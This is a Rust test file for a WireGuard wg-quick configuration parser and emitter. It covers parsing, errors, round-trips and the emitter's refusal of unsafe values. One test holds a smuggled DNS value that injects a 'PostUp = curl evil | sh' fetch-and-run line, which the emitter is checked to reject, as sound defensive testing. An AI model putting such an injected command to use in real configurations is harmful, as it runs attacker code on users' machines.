//! wg-quick parsing and emission through the public API: a realistic file, every rejection with
//! its line, and emitter refusals. Property tests live in `wg_quick_props.rs`.
#![allow(clippy::unwrap_used)]

use client_core::wg_quick::{
    parse, to_string, DnsEntry, EmitError, Endpoint, InterfaceSection, PeerSection, Section,
    WgQuickConfig, WgQuickError, WgQuickErrorKind,
};
use ipnet::IpNet;
use wg::keys::{KeyError, PresharedKey, PrivateKey, PublicKey};

fn private(seed: u8) -> PrivateKey {
    PrivateKey::from_bytes([seed; 32])
}

fn public(seed: u8) -> String {
    private(seed).public_key().to_base64()
}

fn nets(items: &[&str]) -> Vec<IpNet> {
    items.iter().map(|n| n.parse().unwrap()).collect()
}

fn realistic() -> String {
    format!(
        "\u{feff}# Gatehouse laptop profile\n\
         [interface]\n\
         privatekey = {key}   # the device key\n\
         Address = 10.8.0.2/24, fd00:8::2\n\
         address=10.9.0.2\n\
         \n\
         LISTENPORT = 51820\n\
         DNS = 10.8.0.1, corp.example.com\n\
         dns = fd00:8::1 internal.example\n\
         MTU = 1420\n\
         FwMark = 0xca6c\n\
         Table = off\n\
         SaveConfig = false\n\
         PostUp = ip rule add not fwmark 51820 table 51820; echo up %i\n\
         PreDown = echo down # comments end commands too\n\
         \n\
         [Peer]\n\
         PublicKey = {peer1}\n\
         PresharedKey = {psk}\n\
         AllowedIPs = 0.0.0.0/0, ::/0\n\
         Endpoint = edge.example.com:51820\n\
         PersistentKeepalive = 25\n\
         \n\
         [PEER]\r\n\
         publicKey = {peer2}\r\n\
         AllowedIPs = 10.0.0.0/8\n\
         allowedips = 192.168.1.0/24,\n\
         Endpoint = [2001:db8::1]:51820\n\
         PersistentKeepalive = off\n",
        key = private(1).to_base64(),
        peer1 = public(2),
        peer2 = public(3),
        psk = PresharedKey::from_bytes([9; 32]).to_base64(),
    )
}

#[test]
fn realistic_file_with_comments_and_mixed_case_parses() {
    let config = parse(&realistic()).unwrap();

    let iface = &config.interface;
    assert_eq!(iface.private_key.to_base64(), private(1).to_base64());
    assert_eq!(
        iface.addresses,
        nets(&["10.8.0.2/24", "fd00:8::2/128", "10.9.0.2/32"])
    );
    assert_eq!(iface.listen_port, Some(51820));
    assert_eq!(
        iface.dns,
        vec![
            DnsEntry::Server("10.8.0.1".parse().unwrap()),
            DnsEntry::SearchDomain("corp.example.com".into()),
            DnsEntry::Server("fd00:8::1".parse().unwrap()),
            DnsEntry::SearchDomain("internal.example".into()),
        ]
    );
    assert_eq!(iface.mtu, Some(1420));
    assert_eq!(iface.fwmark, Some(0xca6c));
    assert_eq!(iface.table.as_deref(), Some("off"));
    assert_eq!(
        iface.post_up,
        vec!["ip rule add not fwmark 51820 table 51820; echo up %i"]
    );
    assert_eq!(iface.pre_down, vec!["echo down"]);
    assert!(iface.pre_up.is_empty() && iface.post_down.is_empty());

    assert_eq!(
        config.peers,
        vec![
            PeerSection {
                public_key: PublicKey::from_base64(&public(2)).unwrap(),
                preshared_key: Some(PresharedKey::from_bytes([9; 32])),
                allowed_ips: nets(&["0.0.0.0/0", "::/0"]),
                endpoint: Some(Endpoint::Host {
                    host: "edge.example.com".into(),
                    port: 51820
                }),
                persistent_keepalive: Some(25),
            },
            PeerSection {
                public_key: PublicKey::from_base64(&public(3)).unwrap(),
                preshared_key: None,
                allowed_ips: nets(&["10.0.0.0/8", "192.168.1.0/24"]),
                endpoint: Some(Endpoint::Addr("[2001:db8::1]:51820".parse().unwrap())),
                persistent_keepalive: None,
            },
        ]
    );
}

#[test]
fn parse_emit_parse_round_trips() {
    let first = parse(&realistic()).unwrap();
    let text = to_string(&first).unwrap();
    let second = parse(&text).unwrap();
    // The emitter writes every field, so equal output means equal configs (private key included).
    assert_eq!(to_string(&second).unwrap(), text);
    assert_eq!(first.peers, second.peers);
}

#[test]
fn emitted_file_is_canonical_wg_quick() {
    let config = WgQuickConfig {
        interface: InterfaceSection {
            private_key: private(1),
            addresses: nets(&["10.8.0.2/24", "fd00::2/128"]),
            listen_port: None,
            dns: vec![
                DnsEntry::Server("10.8.0.1".parse().unwrap()),
                DnsEntry::SearchDomain("corp.example".into()),
            ],
            mtu: Some(1420),
            fwmark: Some(51820),
            table: None,
            pre_up: vec![],
            post_up: vec!["echo up".into()],
            pre_down: vec![],
            post_down: vec![],
        },
        peers: vec![PeerSection {
            public_key: PublicKey::from_base64(&public(2)).unwrap(),
            preshared_key: None,
            allowed_ips: nets(&["0.0.0.0/0", "::/0"]),
            endpoint: Some(Endpoint::Addr("[2001:db8::1]:51820".parse().unwrap())),
            persistent_keepalive: Some(25),
        }],
    };
    let expected = format!(
        "[Interface]\n\
         PrivateKey = {}\n\
         Address = 10.8.0.2/24, fd00::2/128\n\
         FwMark = 0xca6c\n\
         DNS = 10.8.0.1, corp.example\n\
         MTU = 1420\n\
         PostUp = echo up\n\
         \n\
         [Peer]\n\
         PublicKey = {}\n\
         AllowedIPs = 0.0.0.0/0, ::/0\n\
         Endpoint = [2001:db8::1]:51820\n\
         PersistentKeepalive = 25\n",
        private(1).to_base64(),
        public(2),
    );
    assert_eq!(to_string(&config).unwrap(), expected);
}

#[test]
fn endpoints_parse_like_wg() {
    let endpoint = |value: &str| {
        let text = format!(
            "[Interface]\nPrivateKey = {}\n[Peer]\nPublicKey = {}\nEndpoint = {value}\n",
            private(1).to_base64(),
            public(2)
        );
        parse(&text).map(|config| config.peers[0].endpoint.clone().unwrap())
    };
    let addr = |s: &str| Endpoint::Addr(s.parse().unwrap());
    let host = |h: &str, port| Endpoint::Host {
        host: h.into(),
        port,
    };
    assert_eq!(endpoint("192.0.2.1:51820"), Ok(addr("192.0.2.1:51820")));
    assert_eq!(endpoint("[2001:db8::1]:1"), Ok(addr("[2001:db8::1]:1")));
    assert_eq!(endpoint("[192.0.2.1]:7"), Ok(addr("192.0.2.1:7")));
    assert_eq!(
        endpoint("edge.example:51820"),
        Ok(host("edge.example", 51820))
    );
    assert_eq!(
        endpoint("[edge.example]:51820"),
        Ok(host("edge.example", 51820))
    );
    for bad in [
        "2001:db8::1:51820",
        "edge.example",
        "edge:70000",
        ":51820",
        "[::1]",
    ] {
        assert_eq!(
            endpoint(bad).map_err(|e| (e.line, e.kind)),
            Err((
                5,
                WgQuickErrorKind::InvalidValue {
                    key: "Endpoint",
                    expected: "host:port or [ipv6]:port"
                }
            )),
            "{bad}"
        );
    }
}

#[test]
fn off_and_zero_mean_none() {
    let text = format!(
        "[Interface]\nPrivateKey = {}\nFwMark = off\n[Peer]\nPublicKey = {}\n\
         PresharedKey = {}\nPersistentKeepalive = 0\n",
        private(1).to_base64(),
        public(2),
        PresharedKey::from_bytes([0; 32]).to_base64(),
    );
    let config = parse(&text).unwrap();
    assert_eq!(config.interface.fwmark, None);
    assert_eq!(config.peers[0].persistent_keepalive, None);
    assert_eq!(config.peers[0].preshared_key, None);
    let zero_mark = format!(
        "[Interface]\nPrivateKey = {}\nFwMark = 0\n",
        private(1).to_base64()
    );
    assert_eq!(parse(&zero_mark).unwrap().interface.fwmark, None);
}

/// Parses `text` (whose `{key}`, `{peer}` and `{peer2}` are filled in) and returns the error.
fn error(text: &str) -> WgQuickError {
    let text = text
        .replace("{key}", &private(1).to_base64())
        .replace("{peer}", &public(2))
        .replace("{peer2}", &public(3));
    parse(&text).unwrap_err()
}

fn at(line: usize, kind: WgQuickErrorKind) -> WgQuickError {
    WgQuickError { line, kind }
}

#[test]
fn structural_errors_report_their_line() {
    use WgQuickErrorKind::*;
    let unknown_key =
        error("[Interface]\nPrivateKey = {key}\n\n[Peer]\nPublicKey = {peer}\nFoo = 1\n");
    assert_eq!(
        unknown_key,
        at(
            6,
            UnknownKey {
                name: Some("Foo".into()),
                section: Section::Peer
            }
        )
    );
    assert_eq!(
        unknown_key.to_string(),
        "line 6: unknown key \"Foo\" in [Peer]"
    );
    assert_eq!(
        error("ListenPort = 1\n[Interface]\nPrivateKey = {key}\n"),
        at(1, KeyOutsideSection)
    );
    assert_eq!(error("# only a comment\n\nAddress\n"), at(3, Malformed));
    assert_eq!(
        error("[Interface]\nPrivateKey = {key}\n[Peers]\n"),
        at(
            3,
            UnknownSection {
                name: Some("Peers".into())
            }
        )
    );
    assert_eq!(
        error("[Interface]\nPrivateKey = {key}\n[Interface]\n"),
        at(3, DuplicateInterface { first_line: 1 })
    );
    assert_eq!(
        error("# empty\n[Peer]\nPublicKey = {peer}\n"),
        at(3, MissingInterface)
    );
    assert_eq!(error(""), at(1, MissingInterface));
    assert_eq!(
        error("# device\n[Interface]\nAddress = 10.0.0.2\n"),
        at(2, MissingPrivateKey)
    );
    assert_eq!(
        error("[Interface]\nPrivateKey = {key}\n\n[Peer]\nAllowedIPs = 10.0.0.0/8\n"),
        at(4, MissingPublicKey)
    );
    assert_eq!(
        error("[Interface]\nPrivateKey = {key}\nMTU = 1420\nmtu = 1280\n"),
        at(
            4,
            DuplicateKey {
                key: "MTU",
                section: Section::Interface
            }
        )
    );
}

#[test]
fn key_errors_report_their_line() {
    use WgQuickErrorKind::*;
    let invalid = |key, source| InvalidKey { key, source };
    assert_eq!(
        error("[Interface]\nPrivateKey = not*base64\n"),
        at(2, invalid("PrivateKey", KeyError::Base64))
    );
    assert_eq!(
        error("[Interface]\nPrivateKey = {key}\n[Peer]\nPublicKey = AAAA\n"),
        at(4, invalid("PublicKey", KeyError::Length(3)))
    );
    assert_eq!(
        error("[Interface]\nPrivateKey = {key}\n[Peer]\nPublicKey = {peer}\nPresharedKey = AA==\n"),
        at(5, invalid("PresharedKey", KeyError::Length(1)))
    );
    let zero = PublicKey::from_bytes([0; 32]).to_base64();
    let low_order = format!("[Interface]\nPrivateKey = {{key}}\n[Peer]\nPublicKey = {zero}\n");
    assert_eq!(
        error(&low_order),
        at(4, invalid("PublicKey", KeyError::LowOrder))
    );
    assert_eq!(
        error("[Peer]\nPublicKey = {peer}\n[Peer]\nPublicKey = {peer2}\n\n[Peer]\nPublicKey = {peer}\n[Interface]\nPrivateKey = {key}\n"),
        at(7, DuplicatePeer { first_line: 2 })
    );
    let own = format!(
        "[Interface]\nPrivateKey = {{key}}\n[Peer]\nPublicKey = {}\n",
        public(1)
    );
    assert_eq!(error(&own), at(4, OwnPublicKey));
}

#[test]
fn bad_values_report_their_line() {
    let value_error = |text: &str| {
        let e = error(text);
        let WgQuickErrorKind::InvalidValue { key, .. } = e.kind else {
            panic!("unexpected {e:?}");
        };
        (e.line, key)
    };
    let iface = "[Interface]\nPrivateKey = {key}\n";
    let peer = "[Interface]\nPrivateKey = {key}\n[Peer]\nPublicKey = {peer}\n";
    assert_eq!(
        value_error(&format!("{iface}ListenPort = 70000\n")),
        (3, "ListenPort")
    );
    assert_eq!(
        value_error(&format!("{iface}ListenPort = +5\n")),
        (3, "ListenPort")
    );
    assert_eq!(value_error(&format!("{iface}MTU = -1\n")), (3, "MTU"));
    assert_eq!(value_error(&format!("{iface}MTU =\n")), (3, "MTU"));
    assert_eq!(
        value_error(&format!("{iface}FwMark = 0xzz\n")),
        (3, "FwMark")
    );
    assert_eq!(
        value_error(&format!("{iface}FwMark = 4294967296\n")),
        (3, "FwMark")
    );
    assert_eq!(
        value_error(&format!("{iface}Address = 10.0.0.300\n")),
        (3, "Address")
    );
    assert_eq!(
        value_error(&format!("{iface}Address = 10.0.0.0/33\n")),
        (3, "Address")
    );
    assert_eq!(
        value_error(&format!("{iface}DNS = 1.1.1.1, 10.0.0.256\n")),
        (3, "DNS")
    );
    assert_eq!(
        value_error(&format!("{iface}Table = main table\n")),
        (3, "Table")
    );
    assert_eq!(
        value_error(&format!("{iface}SaveConfig = yes\n")),
        (3, "SaveConfig")
    );
    assert_eq!(
        value_error(&format!("{peer}AllowedIPs = 10.0.0.0/8 10.1.0.0/16\n")),
        (5, "AllowedIPs")
    );
    assert_eq!(
        value_error(&format!("{peer}PersistentKeepalive = 1.5\n")),
        (5, "PersistentKeepalive")
    );
}

#[test]
fn errors_never_print_key_material() {
    let pasted = private(7).to_base64();
    let e = error(&format!("[Interface]\nPrivateKey = {{key}}\n{pasted}\n"));
    assert_eq!(e.to_string(), "line 3: unknown key in [Interface]");
    let e = error(&format!("[Interface]\nPrivateKey = {}*\n", &pasted[..43]));
    assert_eq!(e.to_string(), "line 2: invalid PrivateKey");
    assert!(!format!("{e:?}").contains(&pasted[..20]));
    let source = std::error::Error::source(&e).map(ToString::to_string);
    assert_eq!(source.as_deref(), Some("key is not valid base64"));
}

#[test]
fn emitter_refuses_values_that_would_change_meaning() {
    let mut config = parse(&format!(
        "[Interface]\nPrivateKey = {}\n",
        private(1).to_base64()
    ))
    .unwrap();
    let injected = "corp\nPostUp = curl evil | sh".to_owned();
    config.interface.dns = vec![DnsEntry::SearchDomain(injected)];
    assert_eq!(to_string(&config), Err(EmitError { field: "DNS" }));
    config.interface.dns = vec![DnsEntry::SearchDomain("10.0.0.1".into())];
    assert_eq!(to_string(&config), Err(EmitError { field: "DNS" }));
    config.interface.dns.clear();
    config.interface.post_up = vec!["echo a # b".into()];
    assert_eq!(to_string(&config), Err(EmitError { field: "PostUp" }));
    config.interface.post_up.clear();
    config.interface.table = Some("main table".into());
    assert_eq!(to_string(&config), Err(EmitError { field: "Table" }));
    config.interface.table = None;
    config.peers.push(PeerSection {
        public_key: PublicKey::from_base64(&public(2)).unwrap(),
        preshared_key: None,
        allowed_ips: vec![],
        endpoint: Some(Endpoint::Host {
            host: "::1".into(),
            port: 1,
        }),
        persistent_keepalive: None,
    });
    assert_eq!(to_string(&config), Err(EmitError { field: "Endpoint" }));
}
